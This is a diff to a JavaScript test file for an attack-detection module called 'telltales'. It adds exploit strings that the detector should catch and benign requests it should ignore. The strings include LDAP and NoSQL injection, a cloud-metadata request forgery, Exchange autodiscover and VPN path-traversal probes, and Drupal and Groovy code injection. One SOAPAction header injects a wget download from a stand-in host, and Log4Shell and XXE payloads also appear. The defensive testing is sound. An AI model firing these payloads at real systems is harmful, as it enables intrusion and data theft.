@@ -35,6 +35,11 @@ describe("telltales", () => {
     ["/x?a=$%7B$%7Blower:j%7Dndi:$%7B::-l%7Ddap://192.0.2.1/a%7D", "jndi lookup"],
     ["/x?name=%25{(#_memberAccess['allowStaticMethodAccess']=true)}", "expression injection"],
     ["/index.php?c=system('id')", "code injection"],
+    ["/search?user=*)(uid=*))(|(uid=*", "ldap injection"],
+    ["/fetch?url=http://169.254.169.254/latest/meta-data/", "request forgery"],
+    ["/autodiscover/autodiscover.json?@a.example/mapi/nspi/?&Email=x", "request forgery"],
+    ["/vpn/../vpns/cfg/smb.conf", "path traversal"],
+    ["/scripts/root.exe?/c+dir", "command injection"],
   ])("are found in %s", (target, name) => {
     expect(inTarget(target)).toContain(name);
   });
@@ -49,6 +54,9 @@ describe("telltales", () => {
     "/search?q=it's+cat+and+dog",
     "/wsman?x=(a or b)",
     "/q?text=who+am+i;+where",
+    "/directory?filter=(&(objectClass=*)(cn=backup))",
+    "/autodiscover/autodiscover.json?Email=user@a.example&Protocol=ActiveSync",
+    "/login?redirect_uri=http://localhost:8080/done",
   ])("are not found in %s", (target) => {
     expect(inTarget(target)).toEqual([]);
   });
@@ -60,6 +68,16 @@ describe("telltales", () => {
     const body = inBody("password=secret&user=admin'+or+1=1--+&go=1");
     expect(body.names).toEqual(["sql injection"]);
     expect(body.text).toBe("user=admin' or 1=1-- ");
+    const cookie = new Telltales();
+    cookie.header("Cookie", "id=x'+UNION+SELECT+NULL--");
+    expect(cookie.names).toEqual(["sql injection"]);
+    const action = new Telltales();
+    action.header("SOAPAction", "http://device.example/`cd /tmp && wget http://192.0.2.1/a`");
+    expect(action.names).toEqual(["command injection"]);
+    expect(inBody('{"user":{"$ne":null},"pass":{"$ne":null}}').names).toEqual(["sql injection"]);
+    expect(inBody('{"selector":{"size":{"$gt":5}}}').names).toBeNull();
+    expect(inBody("mail[#post_render][]=exec&mail[#markup]=id").names).toEqual(["code injection"]);
+    expect(inBody("script=println+%22id%22.execute().text").names).toEqual(["code injection"]);
     expect(inBody('{"method":"getImageByPath","data":["C:/windows/win.ini"]}').names).toContain("image by path");
     expect(
       inBody('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>').names,
